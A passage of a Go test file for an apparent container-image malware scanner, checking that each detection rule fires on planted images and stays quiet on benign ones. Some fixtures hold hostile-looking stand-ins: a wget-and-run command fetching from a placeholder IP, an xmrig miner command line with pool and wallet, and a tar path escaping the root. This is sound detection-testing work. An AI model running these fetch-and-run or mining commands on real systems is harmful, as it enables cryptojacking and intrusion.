			return []hierarchical.Option{hierarchical.WithKnownSamples(erLearnSamples(t))}
		}, ""},
		{hierarchical.RuleFuzzyHash, R, "sample given by sha256 only", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /opt/ # buildkit", dt.Exec("opt/agent", erMinerELF(t)))
		}, func(t *testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithKnownSamples([]hierarchical.KnownSample{{Name: "agent", SHA256: erSHA256(erMinerELF(t))}})}
		}, ""},
		{hierarchical.RuleFuzzyHash, Q, "unrelated script (Debian logrotate cron) with the dropper learned", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /usr/local/bin/ # buildkit", dt.Exec("usr/local/bin/rotate", testdata(t, "debian/cron.daily-logrotate")),
				dt.Exec("usr/local/bin/docker-php-entrypoint", erDockerPHPEntrypoint))
		}, func(t *testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithKnownSamples(erLearnSamples(t))}
		}, ""},
		{hierarchical.RuleFuzzyHash, Q, "this machine's /usr/bin/cp (a sibling of the learned ELF's /bin/ls)", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y coreutils", dt.Exec("usr/bin/cp", machineFile(t, "/usr/bin/cp")))
		}, func(t *testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithKnownSamples(erLearnSamples(t))}
		}, ""},
		{hierarchical.RuleFuzzyHash, Q, "one byte off a sha256-only sample", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /opt/ # buildkit", dt.Exec("opt/agent", erMinerELF(t)+"\x00"))
		}, func(t *testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithKnownSamples([]hierarchical.KnownSample{{Name: "agent", SHA256: erSHA256(erMinerELF(t))}})}
		}, ""},
		{hierarchical.RuleFuzzyHash, Q, "the dropper itself, no known samples", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /usr/lib/.x/ # buildkit", dt.Exec("usr/lib/.x/sysupdate", erDropper))
		}, nil, ""},

		// ---- wallet ----
		{hierarchical.RuleMoneroWallet, R, "wallet in an xmrig config", func(t *testing.T) v1.Image {
			return erOne(t, "COPY config.json /opt/xmrig/ # buildkit", dt.Text("opt/xmrig/config.json", xmrigConfig))
		}, nil, ""},
		{hierarchical.RuleMoneroWallet, R, "wallet as -u on the command line", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"/opt/agent", "-o", "203.0.113.9:3333", "-u", wallet}}, "RUN true # buildkit", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleMoneroWallet, Q, "monero README with the donation address", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y monero", dt.Text("usr/share/doc/monero/README.md", testdata(t, "monero-README.md")))
		}, nil, ""},
		{hierarchical.RuleMoneroWallet, Q, "base64 image blob in javascript", func(t *testing.T) v1.Image {
			return erOne(t, "COPY app /srv # buildkit", dt.Text("srv/app/bundle.js", `var img="data:image/png;base64,`+
				strings.Repeat("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg", 30)+`";`))
		}, nil, ""},

		// ---- hierarchy ----
		{hierarchical.RuleAddedChmodStarted, R, "ADD, then RUN chmod 755, then ENTRYPOINT", func(t *testing.T) v1.Image {
			body := machineFile(t, "/bin/true")
			return dt.Image(t, v1.Config{Entrypoint: []string{"/usr/local/bin/agent"}},
				dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:6086fe14 in /usr/local/bin/agent ", Files: []dt.File{{Name: "usr/local/bin/agent", Body: body, Mode: 0o644}}},
				dt.Step{CreatedBy: "/bin/sh -c chmod 755 /usr/local/bin/agent", Files: []dt.File{dt.Exec("usr/local/bin/agent", body)}},
				dt.Meta(`/bin/sh -c #(nop)  ENTRYPOINT ["/usr/local/bin/agent"]`))
		}, nil, ""},
		{hierarchical.RuleAddedChmodStarted, Q, "COPY --chmod=755 in one step, then ENTRYPOINT", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{Entrypoint: []string{"/usr/local/bin/agent"}},
				dt.Step{CreatedBy: "COPY --chmod=755 agent /usr/local/bin/agent # buildkit", Files: []dt.File{dt.Exec("usr/local/bin/agent", machineFile(t, "/bin/true"))}},
				dt.Meta(`ENTRYPOINT ["/usr/local/bin/agent"]`))
		}, nil, ""},
		{hierarchical.RuleAddedChmodStarted, Q, "executable rewritten by a package upgrade, then ENTRYPOINT", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{Entrypoint: []string{"/usr/bin/ls"}},
				dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:d14b4935772 in / ", Files: []dt.File{dt.Exec("usr/bin/ls", machineFile(t, "/bin/true"))}},
				dt.Run("apt-get update && apt-get upgrade -y", dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls"))))
		}, nil, ""},
		{hierarchical.RuleAddedChmodStarted, Q, "ADD and chmod, but ENTRYPOINT starts another program", func(t *testing.T) v1.Image {
			body := machineFile(t, "/bin/true")
			return dt.Image(t, v1.Config{Entrypoint: []string{"/usr/bin/ls"}},
				dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:d14b4935772 in / ", Files: []dt.File{dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls"))}},
				dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:6086fe14 in /usr/local/bin/helper ", Files: []dt.File{{Name: "usr/local/bin/helper", Body: body, Mode: 0o644}}},
				dt.Step{CreatedBy: "/bin/sh -c chmod 755 /usr/local/bin/helper", Files: []dt.File{dt.Exec("usr/local/bin/helper", body)}})
		}, nil, ""},

		{hierarchical.RuleStartedFlaggedFile, R, "CMD starts a renamed ELF with stratum methods", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"/opt/.x/agent"}}, "RUN install # buildkit", dt.Exec("opt/.x/agent", erMinerELF(t)))
		}, nil, ""},
		{hierarchical.RuleStartedFlaggedFile, R, "CMD -> run.sh -> $BIN", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"/opt/.cache/run.sh"}}, "COPY . / # buildkit",
				dt.Exec("opt/.cache/run.sh", runSh("/usr/local/bin/kworkerd")), dt.Exec("usr/local/bin/kworkerd", erMinerELF(t)))
		}, nil, ""},
		{hierarchical.RuleStartedFlaggedFile, Q, "official php wrapper chain to apache2", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"docker-php-entrypoint"}, Cmd: []string{"apache2-foreground"}}, "COPY . / # buildkit",
				dt.Exec("usr/local/bin/docker-php-entrypoint", erDockerPHPEntrypoint),
				dt.Exec("usr/local/bin/apache2-foreground", "#!/bin/bash\nset -e\n: \"${APACHE_CONFDIR:=/etc/apache2}\"\nexec apache2 -DFOREGROUND \"$@\"\n"),
				dt.Exec("usr/sbin/apache2", machineFile(t, "/bin/ls")))
		}, nil, ""},
		{hierarchical.RuleStartedFlaggedFile, Q, "flagged ELF in the image, CMD starts another program", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"/usr/bin/ls"}}, "COPY . / # buildkit",
				dt.Exec("opt/.x/agent", erMinerELF(t)), dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls")))
		}, nil, ""},

		{hierarchical.RuleHiddenEvidence, R, "miner script deleted by a later layer", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{},
				dt.Run("wget http://198.51.100.23/p -O /tmp/p && sh /tmp/p",
					dt.Exec("tmp/p", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u "+wallet+"\n")),
				dt.Run("rm /tmp/p", dt.Whiteout("tmp/p")))
		}, nil, ""},
		{hierarchical.RuleHiddenEvidence, Q, "apt lists and a build script deleted (usual cleanup)", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{},
				dt.Run("apt-get update && /tmp/build.sh",
					dt.Text("var/lib/apt/lists/mirror.example.org_debian_dists_bookworm_InRelease", "Origin: Debian\n"),
					dt.Exec("tmp/build.sh", "#!/bin/sh\nset -e\n./configure --prefix=/usr && make -j4 && make install\n")),
				dt.Run("rm -rf /var/lib/apt/lists/* /tmp/build.sh", dt.Opaque("var/lib/apt/lists"), dt.Whiteout("tmp/build.sh")))
		}, nil, ""},
		{hierarchical.RuleHiddenEvidence, Q, "deleted rustup-style installer (weak evidence only)", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{},
				dt.Run("true", dt.Exec("tmp/install.sh", "#!/bin/sh\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n")),
				dt.Run("rm /tmp/install.sh", dt.Whiteout("tmp/install.sh")))
		}, nil, ""},

		// ---- not scanned ----
		{hierarchical.RuleNotScanned, R, "/bin/ls over a 4 KiB file limit", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y coreutils", dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls")))
		}, limits(layers.WithMaxFileBytes(4096)), ""},
		{hierarchical.RuleNotScanned, R, "more entries than the entry limit", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("etc/a", "a\n"), dt.Text("etc/b", "b\n"), dt.Text("etc/c", "c\n"))
		}, limits(layers.WithMaxEntries(2)), ""},
		{hierarchical.RuleNotScanned, R, "tar entry escaping the root", func(t *testing.T) v1.Image {
			return erOne(t, "COPY . / # buildkit", dt.Text("../evil", "x"))
		}, nil, ""},
		{hierarchical.RuleNotScanned, Q, "/bin/ls under default limits", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y coreutils", dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls")))
		}, nil, ""},
		{hierarchical.RuleNotScanned, Q, "small files under a 4 KiB file limit and 3 entries", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("etc/a", "a\n"), dt.Text("etc/b", "b\n"), dt.Exec("usr/local/bin/docker-php-entrypoint", erDockerPHPEntrypoint))
		}, limits(layers.WithMaxFileBytes(4096), layers.WithMaxEntries(3)), ""},

		{hierarchical.RuleScriptTooLarge, R, "3 KiB script over a 1 KiB script limit", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("usr/local/bin/setup.sh", erBigScript(3000)))
		}, scriptLimit(1024), ""},
		{hierarchical.RuleScriptTooLarge, R, "3 KiB cron script over a 1 KiB script limit", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("etc/cron.daily/cleanup", erBigScript(3000)))
		}, scriptLimit(1024), ""},
		{hierarchical.RuleScriptTooLarge, Q, "the same script under the default limit", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("usr/local/bin/setup.sh", erBigScript(3000)))
		}, nil, ""},
		{hierarchical.RuleScriptTooLarge, Q, "3 KiB README (not a script) over a 1 KiB script limit", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("opt/app/README", strings.Repeat("This application serves the API.\n", 100)),
				dt.Exec("usr/local/bin/docker-php-entrypoint", erDockerPHPEntrypoint))
		}, scriptLimit(1024), ""},

		{hierarchical.RuleArchiveNotScanned, R, "stand-in script 10 archives deep", func(t *testing.T) v1.Image {
			return erOne(t, "COPY payload.gz /opt/ # buildkit", dt.Text("opt/payload.gz", string(hierarchical.ArchiveNested(t, []byte(erDropper), 10))))
		}, nil, ""},
		{hierarchical.RuleArchiveNotScanned, R, "truncated tar.gz", func(t *testing.T) v1.Image {
			b := hierarchical.ArchiveGzip(t, hierarchical.ArchiveTar(t, hierarchical.ArchiveMember{Name: "a/run.sh", Body: []byte(erDropper), Mode: 0o755}))
			return erOne(t, "COPY a.tgz /opt/ # buildkit", dt.Text("opt/a.tgz", string(b[:len(b)-12])))
		}, nil, ""},
		{hierarchical.RuleArchiveNotScanned, Q, "release tarball of docs and a script, and a jar", func(t *testing.T) v1.Image {
			tgz := hierarchical.ArchiveGzip(t, hierarchical.ArchiveTar(t,
				hierarchical.ArchiveMember{Name: "app-1.2/README.md", Body: []byte("# app\nRun ./install.sh\n"), Mode: 0o644},
				hierarchical.ArchiveMember{Name: "app-1.2/install.sh", Body: []byte(erDockerPHPEntrypoint), Mode: 0o755}))
			jar := hierarchical.ArchiveZip(t, hierarchical.ArchiveMember{Name: "META-INF/MANIFEST.MF", Body: []byte("Manifest-Version: 1.0\n"), Mode: 0o644})
			return erRun(t, "true", dt.Text("opt/app-1.2.tar.gz", string(tgz)), dt.Text("opt/app/lib/app.jar", string(jar)))
		}, nil, ""},

		{hierarchical.RuleAnalysisBounded, R, "tarball of 300 shell scripts (digests kept for 256)", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("opt/scripts.tar", string(hierarchical.ArchiveTar(t, erScripts(300)...))))
		}, nil, ""},
		{hierarchical.RuleAnalysisBounded, Q, "tarball of 20 shell scripts", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("opt/scripts.tar", string(hierarchical.ArchiveTar(t, erScripts(20)...))))
		}, nil, ""},
	}
}

// erScripts are n distinct small maintenance scripts.
func erScripts(n int) []hierarchical.ArchiveMember {
	ms := make([]hierarchical.ArchiveMember, n)
	for i := range ms {
		ms[i] = hierarchical.ArchiveMember{Name: fmt.Sprintf("tools/task%03d.sh", i), Mode: 0o755,
			Body: []byte(fmt.Sprintf("#!/bin/sh\nset -e\n# task %d\nfind /var/cache/app -name '*.tmp' -mtime +%d -delete\n", i, i))}
	}
	return ms
}

// TestEveryRuleFiresAndStaysQuiet: every rule of Rules() has at least one
// image in which it must fire and one realistic benign image, close to the
// positive ones, in which it must not. A rule without both fails the test,
// so a new rule cannot be added without them. Assertions are on the set of
// rule IDs in Verdict.Findings, not on scores.
func TestEveryRuleFiresAndStaysQuiet(t *testing.T) {
	rows := append(everyRuleRows(), everyRuleRows040()...)
	known := map[string]bool{}
	for _, r := range hierarchical.Rules() {
		known[r.ID] = true
	}
	pos, neg := map[string]int{}, map[string]int{}
	for _, row := range rows {
		if !known[row.rule] {
			t.Errorf("row %q names rule %q, which is not in hierarchical.Rules()", row.name, row.rule)
		}
		if row.fire {
			pos[row.rule]++
		} else {
			neg[row.rule]++
		}
	}
	for _, r := range hierarchical.Rules() {
		if pos[r.ID] == 0 {
			t.Errorf("rule %s has no POSITIVE row (an image in which it must fire) in TestEveryRuleFiresAndStaysQuiet: add one to everyRuleRows", r.ID)
		}
		if neg[r.ID] == 0 {
			t.Errorf("rule %s has no NEGATIVE row (a realistic benign image in which it must not fire) in TestEveryRuleFiresAndStaysQuiet: add one to everyRuleRows", r.ID)
		}
	}

	for _, r := range hierarchical.Rules() {
		t.Run(r.ID, func(t *testing.T) {
			for _, row := range rows {
				if row.rule != r.ID {
					continue
				}
				kind := "fires"
				if !row.fire {
					kind = "quiet"
				}
				t.Run(kind+": "+row.name, func(t *testing.T) {
					if row.bug != "" {
						t.Skip("BUG: " + row.bug)
					}
					img := row.img(t)
					var opts []hierarchical.Option
					if row.opts != nil {
						opts = row.opts(t)
					}
					v := scan(t, img, opts...)
					got := map[string]bool{}
					for _, f := range v.Findings {
						got[f.Rule] = true
					}
					if got[row.rule] == row.fire {
						return
					}
					rules := make([]string, 0, len(got))
					for id := range got {
						rules = append(rules, id)
					}
					sort.Strings(rules)
					if row.fire {
						t.Errorf("rule %s did not fire on %q; rules in the verdict: %v; findings: %+v", row.rule, row.name, rules, v.Findings)
					} else {
						t.Errorf("rule %s fired on the benign image %q: %+v; rules in the verdict: %v", row.rule, row.name, findings(v, row.rule), rules)
					}
				})
			}
		})
	}
}
